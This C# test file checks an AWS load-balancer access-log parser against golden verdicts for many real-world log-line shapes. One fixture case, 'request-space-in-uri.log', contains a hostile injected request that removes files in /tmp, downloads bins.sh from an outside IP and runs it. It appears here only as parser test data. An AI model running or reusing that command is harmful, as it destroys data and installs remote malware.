using System.Text;
using AlbLogLambda.Core.Classification;
using AlbLogLambda.Core.Parsing;

namespace AlbLogLambda.Core.Tests.Parsing;

/// <summary>
/// Whole line in, whole verdict out, one named case per real-world shape (tests/Fixtures/logs/shapes).
/// The expected column reads: verdict | fields | type | elb status | target status | target | request method, url, version | cause/hypothesis.
/// </summary>
public class ShapeGoldenTests
{
    public static TheoryData<string, string> Shapes => new()
    {
        { "http-200.log", "Entry|33|http|200|200|10.0.11.10:8080|GET http://www.example.com:80/ HTTP/1.1|-" },
        { "https-tls.log", "Entry|33|https|200|200|10.0.11.51:8080|GET https://www.example.com:443/account/orders HTTP/1.1|-" },
        { "h2.log", "Entry|33|h2|200|200|10.0.11.92:8080|GET https://www.example.com:443/static/js/app.5e1f9a3c.js HTTP/2.0|-" },
        { "grpcs.log", "Entry|33|grpcs|200|200|10.0.31.19:50051|POST https://grpc.example.com:443/orders.v1.OrderService/GetOrder HTTP/2.0|-" },
        { "ws-101.log", "Entry|33|ws|101|101|10.0.11.133:8080|GET http://www.example.com:80/socket/updates HTTP/1.1|-" },
        { "wss-101.log", "Entry|33|wss|101|101|10.0.11.174:8080|GET https://www.example.com:443/socket/notifications?token=9f8e7d6c HTTP/1.1|-" },
        { "lambda-200.log", "Entry|33|https|200|200|-|POST https://www.example.com:443/checkout/session HTTP/1.1|-" },
        { "lambda-invalid-response-502.log", "Entry|33|https|502|-|-|POST https://www.example.com:443/checkout/session HTTP/1.1|lambda-invalid-response" },
        { "malformed-request-400.log", "Entry|33|http|400|-|-|- - -|-" },
        { "malformed-request-host-only.log", "Entry|33|http|400|-|-|- http://www.example.com:80- -|-" },
        { "request-trailing-space.log", "Entry|33|https|200|200|10.0.11.215:8080|GET https://www.example.com:443/products/281935 HTTP/1.0|-" },
        { "request-space-in-uri.log", "Entry|33|http|301|-|-|GET http://203.0.113.10:80/shell?cd+/tmp;rm+-rf+*;wget+ 198.51.100.99/bins.sh;sh+/tmp/bins.sh HTTP/1.1|-" },
        { "ipv6-unbracketed.log", "Entry|33|https|200|200|10.0.11.10:8080|GET https://www.example.com:443/products/473120 HTTP/1.1|-" },
        { "ipv6-bracketed.log", "Entry|33|https|200|200|10.0.11.51:8080|GET https://www.example.com:443/cart HTTP/1.1|-" },
        { "fields-25.log", "Entry|25|https|200|200|10.0.11.10:8080|GET https://www.example.com:443/index.html HTTP/1.1|-" },
        { "fields-29.log", "Entry|29|https|200|200|10.0.11.51:8080|GET https://www.example.com:443/products/118402 HTTP/1.1|-" },
        { "fields-30.log", "Entry|30|https|200|200|10.0.11.92:8080|GET https://www.example.com:443/api/health HTTP/1.1|-" },
        { "fields-33.log", "Entry|33|https|200|200|10.0.11.133:8080|GET https://www.example.com:443/blog/2025/9/release-notes HTTP/1.1|-" },
        { "extra-unknown-fields.log", "Entry|36|https|200|200|10.0.11.174:8080|GET https://www.example.com:443/images/p/290114.webp HTTP/1.1|-" },
        { "escaped-quote-user-agent.log", "Entry|33|https|200|200|10.0.11.215:8080|GET https://www.example.com:443/robots.txt HTTP/1.1|-" },
        { "quoted-runs-into-next.log", "Entry|33|https|200|200|10.0.11.51:8080|GET https://www.example.com:443/login HTTP/1.1|-" },
        { "empty-actions-executed.log", "Entry|33|http|460|-|10.0.11.92:8080|GET http://www.example.com:80/search?q=red+scarf HTTP/1.1|-" },
        { "redirect-302.log", "Entry|33|http|302|-|-|GET http://www.example.com:80/account HTTP/1.1|-" },
        { "waf-403.log", "Entry|33|https|403|-|-|POST https://www.example.com:443/login HTTP/1.1|-" },
        { "fixed-response-502.log", "Entry|33|https|502|-|-|GET https://www.example.com:443/v1/legacy-export/20231 HTTP/1.1|fixed-response" },
        { "target-reset-502.log", "Entry|33|https|502|-|10.0.15.87:8080|GET https://www.example.com:443/products/381027 HTTP/1.1|target-connection-failed" },
        { "keep-alive-race-502.log", "Entry|33|https|502|-|10.0.11.51:8080|GET https://www.example.com:443/account/orders HTTP/1.1|target-closed-connection/keep-alive-race" },
        { "target-returned-502.log", "Entry|33|https|502|502|10.0.11.215:8080|GET https://www.example.com:443/products/381027/reviews?page=2 HTTP/1.1|target-returned-502" },
        { "health-check-line.log", "Foreign|HealthCheckLogLine" },
        { "connection-log-line.log", "Foreign|ConnectionOrClassicLogLine" },
        { "classic-elb-line.log", "Foreign|ConnectionOrClassicLogLine" },
        { "nlb-tls-line.log", "Foreign|NetworkLoadBalancerLogLine" },
        { "elb-test-file.log", "Foreign|AccessLogTestFileLine" },
    };

    [Theory]
    [MemberData(nameof(Shapes))]
    public void Parse_RealWorldShape_GivesTheGoldenVerdict(string file, string expected)
    {
        Assert.Equal(expected, Describe(FirstLine(file)));
    }

    public static TheoryData<string> EntryShapes => new(Shapes
        .Where(row => ((string)row[1]).StartsWith("Entry", StringComparison.Ordinal)).Select(row => (string)row[0]));

    [Theory]
    [MemberData(nameof(EntryShapes))]
    public void Parse_RealWorldShape_EveryFieldMatchesTheReferenceSplitter(string file)
    {
        var text = File.ReadAllLines(TestLines.FixturePath("logs", "shapes", file))[0];
        var reference = ReferenceSplitter.Split(text);

        AlbLogParser.Parse(Encoding.UTF8.GetBytes(text), out var record, out _);

        Assert.Equal(reference.Count, record.FieldCount);
        foreach (var field in RecordFields.All)
        {
            // The parser gives "-", an empty quoted field and a missing field alike as an empty value.
            string want = (int)field < reference.Count && reference.At(field).Length > 0 ? reference.At(field) : "-";
            Assert.True(want == RecordFields.Text(record, field), $"{file}: {field.Describe()} is '{RecordFields.Text(record, field)}', want '{want}'");
        }
    }

    [Fact]
    public void Shapes_EveryFixtureFileHasAGoldenCase()
    {
        var files = Directory.GetFiles(TestLines.FixturePath("logs", "shapes"), "*.log").Select(Path.GetFileName).Order(StringComparer.Ordinal);

        Assert.Equal(files, Shapes.Select(row => (string)row[0]).Order(StringComparer.Ordinal));
    }

    [Fact]
    public void Parse_EscapedQuotesInUserAgent_AreKeptRaw()
    {
        var lines = File.ReadAllLines(TestLines.FixturePath("logs", "shapes", "escaped-quote-user-agent.log"));

        AlbLogParser.Parse(Encoding.UTF8.GetBytes(lines[0]), out var quoted, out _);
        Assert.Equal("\\x22Mozilla/5.0 (compatible; SiteAuditBot/3.1; +https://audit.example.net/bot)\\x22", Encoding.UTF8.GetString(quoted.UserAgent));
        Assert.Equal(33, quoted.FieldCount);
        AlbLogParser.Parse(Encoding.UTF8.GetBytes(lines[1]), out var utf8, out _);
        Assert.Equal("ShopApp/5.4.1 (iPhone; iOS 18.1; \\xEC\\x97\\x90\\xEC\\x96\\xB4\\xED\\x8C\\x9F)", Encoding.UTF8.GetString(utf8.UserAgent));
        Assert.Equal(33, utf8.FieldCount);
    }

    private static byte[] FirstLine(string file) =>
        Encoding.UTF8.GetBytes(File.ReadAllLines(TestLines.FixturePath("logs", "shapes", file))[0]);

    private static string Describe(ReadOnlySpan<byte> line)
    {
        var verdict = AlbLogParser.Parse(line, out var r, out var problem);
        if (verdict != LineVerdict.Entry) return $"{verdict}|{problem}";
        AlbFieldValues.SplitRequest(r.Request, out var method, out var url, out var version);
        string cause = "-";
        if (r.ElbStatusCode == 502)
        {
            var c = new Http502Classifier().Classify(r);
            cause = CauseCatalog.Id(c.Cause) + (c.Hypothesis is Hypothesis.None ? "" : "/" + CauseCatalog.Id(c.Hypothesis));
        }
        string S(ReadOnlySpan<byte> s) => s.IsEmpty ? "-" : Encoding.UTF8.GetString(s);
        string status(int code) => code < 0 ? "-" : code.ToString(System.Globalization.CultureInfo.InvariantCulture);
        var request = string.Join(' ', new[] { S(method), S(url), Encoding.UTF8.GetString(version) }).TrimEnd();
        return $"Entry|{r.FieldCount}|{S(r.Type)}|{status(r.ElbStatusCode)}|{status(r.TargetStatusCode)}|{S(r.Target)}|{request}|{cause}";
    }
}
